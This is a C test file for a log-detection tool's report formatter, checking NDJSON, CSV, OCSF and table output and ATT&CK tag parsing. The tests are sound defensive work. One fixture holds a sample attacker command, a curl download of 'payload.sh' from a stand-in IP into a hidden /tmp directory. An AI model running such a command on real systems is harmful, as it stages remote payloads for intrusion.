#include "main/detect/report.h"

#include "main/attack.h"
#include "main/term.h"
#include "vd_test.h"

static const struct vd_str tags[] = {{"attack.privilege_escalation", 27}, {"attack.t1059.001", 16},
	{"attack.g0016", 12}, {"cve.2021-44228", 14}};

static const struct vd_report_rule rule = {
	.view =
		{
			.id = {"11111111-2222-3333-4444-555555555555", 36},
			.title = {"A \"quoted\" title", 16},
			.level = {"high", 4},
			.description = {"What it is", 10},
			.alone = true,
			.n_tags = VD_ARRAY_LEN(tags),
			.tags = tags,
		},
	.rank = 4,
};

static const struct vd_evidence evidence[] = {
	{{"Image", 5}, {"C:\\x\\cmd.exe", 12}, {"Image|endswith: '\\cmd.exe'", 26}, true, false,
		{"selection", 9}},
	{{"User", 4}, {"SYSTEM", 6}, {"User: 'SYSTEM'", 14}, false, true, {"filter", 6}},
};

static struct vd_report_row
match_row(void)
{
	return (struct vd_report_row){
		.kind = VD_REPORT_MATCH,
		.id = {0xab, 1},
		.rule = &rule,
		.has_time = true,
		.time_ms = 1767585540000,
		.host = {"ws01", 4},
		.has_place = true,
		.place = {{"logs/a.jsonl", 12}, 17},
		.n_matched = VD_ARRAY_LEN(evidence),
		.matched = evidence,
	};
}

static const struct vd_group_value group[] = {{{"User", 4}, {"bob", 3}}};
static const struct vd_event_ref events[] = {{{"a.jsonl", 7}, 3}, {{"a.jsonl", 7}, 9}};

static struct vd_report_row
correlation_row(void)
{
	return (struct vd_report_row){
		.kind = VD_REPORT_CORRELATION,
		.rule = &rule,
		.has_time = true,
		.time_ms = 0,
		.n_group = 1,
		.group = group,
		.count = 2,
		.n_events = 2,
		.events = events,
	};
}

static void
expect(const struct vd_report_format *format, const struct vd_report_style *style,
	const struct vd_report_row *row, const char *want)
{
	struct vd_buf buf;
	vd_buf_init(&buf, 0);
	format->row(style, row, &buf);
	assert_string_equal(buf.at, want);
	vd_buf_fini(&buf);
}

static void
expect_part(const struct vd_report_format *format, const struct vd_report_row *row, const char *part)
{
	struct vd_buf buf;
	struct vd_report_style style = {.started_ms = 42};
	vd_buf_init(&buf, 0);
	format->row(&style, row, &buf);
	if (strstr(buf.at, part) == NULL)
		fail_msg("no %s in %s", part, buf.at);
	vd_buf_fini(&buf);
}

VD_TEST(ndjson_of_a_match_has_the_promised_keys)
{
	struct vd_report_row row = match_row();
	struct vd_report_style style = {0};
	expect(&vd_out_ndjson, &style, &row,
		"{\"type\":\"match\",\"id\":\"ab010000000000000000000000000000\","
		"\"rule_id\":\"11111111-2222-3333-4444-555555555555\",\"rule_title\":\"A \\\"quoted\\\" "
		"title\","
		"\"level\":\"high\",\"time\":\"2026-01-05T03:59:00.000Z\",\"host\":\"ws01\","
		"\"event_file\":\"logs/a.jsonl\",\"event_line\":17,"
		"\"matched\":[{\"field\":\"Image\",\"value\":\"C:\\\\x\\\\cmd.exe\","
		"\"predicate\":\"Image|endswith: '\\\\cmd.exe'\"}]}\n");
}

VD_TEST(ndjson_of_a_closed_window_has_group_events_and_no_place)
{
	struct vd_report_row row = correlation_row();
	struct vd_report_style style = {0};
	expect(&vd_out_ndjson, &style, &row,
		"{\"type\":\"correlation\",\"id\":\"00000000000000000000000000000000\","
		"\"rule_id\":\"11111111-2222-3333-4444-555555555555\",\"rule_title\":\"A \\\"quoted\\\" "
		"title\","
		"\"level\":\"high\",\"time\":\"1970-01-01T00:00:00.000Z\",\"host\":null,"
		"\"event_file\":null,\"event_line\":null,\"matched\":[],\"group\":{\"User\":\"bob\"},"
		"\"count\":2,"
		"\"events\":[{\"file\":\"a.jsonl\",\"line\":3},{\"file\":\"a.jsonl\",\"line\":9}]}\n");
}

VD_TEST(ndjson_says_null_where_time_host_and_level_are_unknown)
{
	struct vd_report_row row = match_row();
	struct vd_report_rule bare = {.view = {.id = {"x", 1}, .title = {"", 0}}};
	row.rule = &bare;
	row.has_time = false;
	row.host = (struct vd_str){NULL, 0};
	expect_part(&vd_out_ndjson, &row, "\"level\":null,\"time\":null,\"host\":null,");
}

VD_TEST(the_value_of_an_absent_field_is_null_and_to_people_absent)
{
	static const struct vd_evidence absent[] = {
		{{"User", 4}, {NULL, 0}, {"User: null", 10}, true, false, {"selection", 9}}};
	struct vd_report_row row = match_row();
	row.matched = absent;
	row.n_matched = 1;
	expect_part(&vd_out_ndjson, &row,
		"\"matched\":[{\"field\":\"User\",\"value\":null,\"predicate\":\"User: null\"}]");
	expect_part(&vd_out_table, &row, "User: (absent)\n");
	expect_part(&vd_out_ocsf, &row,
		"\"observables\":[{\"name\":\"device.hostname\",\"type_id\":1,"
		"\"type\":\"Hostname\",\"value\":\"ws01\"}],");
}

VD_TEST(repairs_are_named)
{
	struct vd_report_row row = match_row();
	row.repaired = VD_MATCH_REPAIRED_SYNTAX * 2 - 1; /* all of them */
	expect_part(&vd_out_ndjson, &row,
		",\"repaired\":[\"utf8\",\"duplicate\",\"nul\",\"depth\",\"control\",\"syntax\"]}");
	row.repaired = VD_MATCH_REPAIRED_UTF8 | VD_MATCH_REPAIRED_DEPTH;
	expect_part(&vd_out_ndjson, &row, ",\"repaired\":[\"utf8\",\"depth\"]}");
	expect_part(&vd_out_csv, &row, ",\"[\"\"utf8\"\",\"\"depth\"\"]\"\n");
}

VD_TEST(csv_has_as_many_cells_as_its_heading)
{
	struct vd_report_row row = correlation_row();
	struct vd_report_style style = {0};
	expect(&vd_out_csv, &style, &row,
		"correlation,00000000000000000000000000000000,11111111-2222-3333-4444-555555555555,"
		"\"A \"\"quoted\"\" "
		"title\",high,1970-01-01T00:00:00.000Z,,,,,\"{\"\"User\"\":\"\"bob\"\"}\",2,"
		"\"[{\"\"file\"\":\"\"a.jsonl\"\",\"\"line\"\":3},{\"\"file\"\":\"\"a.jsonl\"\",\"\"line\"\":"
		"9}]\",\n");
}

VD_TEST(ocsf_is_a_detection_finding_of_the_pinned_version)
{
	struct vd_report_row row = match_row();
	expect_part(&vd_out_ocsf, &row, "\"class_uid\":2004");
	expect_part(&vd_out_ocsf, &row, "\"category_uid\":2");
	expect_part(&vd_out_ocsf, &row, "\"activity_id\":1");
	expect_part(&vd_out_ocsf, &row, "\"type_uid\":200401");
	expect_part(&vd_out_ocsf, &row, "\"severity_id\":4,\"severity\":\"High\"");
	expect_part(&vd_out_ocsf, &row, "\"time\":1767585540000");
	expect_part(&vd_out_ocsf, &row, "\"metadata\":{\"version\":\"1.3.0\"");
	expect_part(&vd_out_ocsf, &row, "\"finding_info\":{\"uid\":\"ab010000000000000000000000000000\"");
	expect_part(&vd_out_ocsf, &row, "\"evidences\":[{\"data\":{\"matched\":[{");
	expect_part(&vd_out_ocsf, &row, "\"device\":{\"type_id\":0,\"hostname\":\"ws01\"}");
	expect_part(&vd_out_ocsf, &row,
		"{\"name\":\"evidences[].data\",\"type_id\":9,\"type\":\"Process "
		"Name\",\"value\":\"C:\\\\x\\\\cmd.exe\"}");
}

VD_TEST(ocsf_attacks_come_from_tags_and_only_from_attack_tags)
{
	struct vd_report_row row = match_row();
	expect_part(&vd_out_ocsf, &row,
		"\"attacks\":[{\"tactic\":{\"name\":\"Privilege Escalation\",\"uid\":\"TA0004\"}},"
		"{\"technique\":{\"uid\":\"T1059\"},\"sub_technique\":{\"uid\":\"T1059.001\"}}]");
}

VD_TEST(ocsf_uses_the_time_of_the_run_where_the_event_has_none)
{
	struct vd_report_row row = match_row();
	row.has_time = false;
	expect_part(&vd_out_ocsf, &row, "\"time\":42,");
	expect_part(&vd_out_ocsf, &row, "\"event_time_known\":false");
}

static const struct vd_report_rule long_rule = {
	.view = {.title = {"Download Into a Hidden or World-Writable Place", 46}}, .rank = 4};

static struct vd_report_row
usual_row(void)
{
	static const struct vd_evidence usual[] = {
		{{"CommandLine", 11}, {"curl -s -o /tmp/.x/payload.sh http://198.51.100.7/payload.sh", 60},
			{"CommandLine|contains: 'curl'", 28}, true, false, {"selection", 9}}};
	struct vd_report_row row = match_row();
	row.rule = &long_rule;
	row.host = VD_S("web-server-01.example.net");
	row.place = (struct vd_event_ref){{"samples/linux/audit-attack.jsonl.gz", 35}, 1257};
	row.matched = usual;
	row.n_matched = 1;
	return row;
}

static void
print(const struct vd_report_row *row, size_t columns, struct vd_buf *to)
{
	struct vd_report_style style = {.columns = columns};
	vd_buf_reset(to);
	vd_out_table.row(&style, row, to);
}

VD_TEST(a_table_row_never_exceeds_the_terminal_and_loses_no_part)
{
	struct vd_report_row rows[] = {match_row(), usual_row()};
	VD_AUTO_FINI(vd_buf) buf;
	vd_buf_init(&buf, 0);
	for (size_t columns = 60; columns <= 260; columns++)
		for (size_t r = 0; r < VD_ARRAY_LEN(rows); r++) {
			print(&rows[r], columns, &buf);
			/* level, time, rule; host, place and what matched, each with enough to know it by */
			const char *const parts[] = {"high  ",
				r == 0 ? "A \"quoted\" title" : "Download Into a Hid", "01-05T03:59:00",
				r == 0 ? "ws01" : "web-server-", r == 0 ? ".jsonl:17" : "jsonl.gz:1257",
				r == 0 ? "Image: C:\\" : "CommandLine: cur"};
			for (size_t i = 0; i < VD_ARRAY_LEN(parts); i++)
				if (strstr(buf.at, parts[i]) == NULL)
					fail_msg("%zu columns: no %s in\n%s", columns, parts[i], buf.at);
			for (char *line = buf.at, *end; (end = strchr(line, '\n')) != NULL; line = end + 1) {
				*end = '\0';
				assert_in_range(vd_term_width(vd_str_from(line)), 1, columns);
			}
		}
}

VD_TEST(a_table_without_a_terminal_cuts_nothing)
{
	struct vd_report_row row = match_row();
	expect_part(&vd_out_table, &row, "  logs/a.jsonl:17  Image: C:\\x\\cmd.exe\n");
	expect_part(
		&vd_out_table, &row, "high      2026-01-05T03:59:00.000Z  ws01          A \"quoted\" title ");
}

VD_TEST(a_table_row_looks_like_this_at_usual_widths)
{
	struct vd_report_row row = usual_row();
	struct vd_report_style style = {.columns = 60};
	expect(&vd_out_table, &style, &row,
		"high      01-05T03:59:00  Download Into a Hidden or World-W…\n"
		"    web-server-… · …k.jsonl.gz:1257 · CommandLine: curl -s …\n");
	style.columns = 80;
	expect(&vd_out_table, &style, &row,
		"high      2026-01-05T03:59:00  Download Into a Hidden or World-Writable Place\n"
		"    web-server-01.e… · …-attack.jsonl.gz:1257 · CommandLine: curl -s -o /tmp/.x…\n");
	style.columns = 120;
	expect(&vd_out_table, &style, &row,
		"high      2026-01-05T03:59:00  Download Into a Hidden or World-Writable Place\n"
		"    web-server-01.example.n… · …/audit-attack.jsonl.gz:1257 · CommandLine: curl -s -o "
		"/tmp/.x/payload.sh http://198.51.…\n");
	style.columns = 180;
	expect(&vd_out_table, &style, &row,
		"high      2026-01-05T03:59:00.000Z  web-server-…  Download Into a Hidden or World-Writable "
		"Pl…  …/audit-attack.jsonl.gz:1257  CommandLine: curl -s -o /tmp/.x/payload.sh "
		"http://198…\n");
}

VD_TEST(the_heading_names_the_parts_of_each_form)
{
	struct vd_report_style style = {.columns = 80};
	VD_AUTO_FINI(vd_buf) buf;
	vd_buf_init(&buf, 0);
	vd_out_table.heading(&style, &buf);
	assert_string_equal(buf.at, "LEVEL     TIME                 RULE\n    HOST · FILE:LINE · MATCHED\n");
	vd_buf_reset(&buf);
	style.columns = 180;
	vd_out_table.heading(&style, &buf);
	assert_string_equal(buf.at, "LEVEL     TIME                      HOST          "
				    "RULE                                          MATCHED\n");
}

VD_TEST(a_narrow_row_of_a_closed_window_has_no_place_and_perhaps_no_host)
{
	struct vd_report_row row = correlation_row();
	struct vd_report_style style = {.columns = 80};
	expect(&vd_out_table, &style, &row,
		"high      1970-01-01T00:00:00  A \"quoted\" title\n"
		"    - · 2 events, User: bob\n");
}

VD_TEST(a_level_takes_no_more_of_a_table_than_the_longest_usual_one)
{
	static const struct vd_report_rule quiet = {.view = {.title = {"x", 1}}, .rank = 1};
	struct vd_report_row row = match_row();
	row.rule = &quiet;
	expect_part(&vd_out_table, &row, "info      2026-");
}

VD_TEST(a_table_row_of_a_closed_window_begins_with_its_count)
{
	struct vd_report_row row = correlation_row();
	expect_part(&vd_out_table, &row, "  2 events, User: bob\n");
}

VD_TEST(tactics_are_known_with_either_dash)
{
	size_t i;
	assert_true(vd_attack_tactic_of(VD_S("attack.command_and_control"), &i));
	assert_true(vd_str_is(vd_attack_tactic(i)->name, "Command and Control"));
	assert_true(vd_attack_tactic_of(VD_S("ATTACK.Stealth"), &i));
	assert_false(vd_attack_tactic_of(VD_S("attack.t1059"), &i));
	assert_false(vd_attack_tactic_of(VD_S("car.2013-05-002"), &i));
}

VD_TEST(techniques_are_t_with_four_digits_and_perhaps_three_more)
{
	struct vd_str n;
	assert_true(vd_attack_technique_of(VD_S("attack.T1059.001"), &n));
	assert_true(vd_str_is(n, "1059.001"));
	assert_false(vd_attack_technique_of(VD_S("attack.t10599"), &n));
	assert_false(vd_attack_technique_of(VD_S("attack.t1059-001"), &n));
	assert_false(vd_attack_technique_of(VD_S("attack."), &n));
}
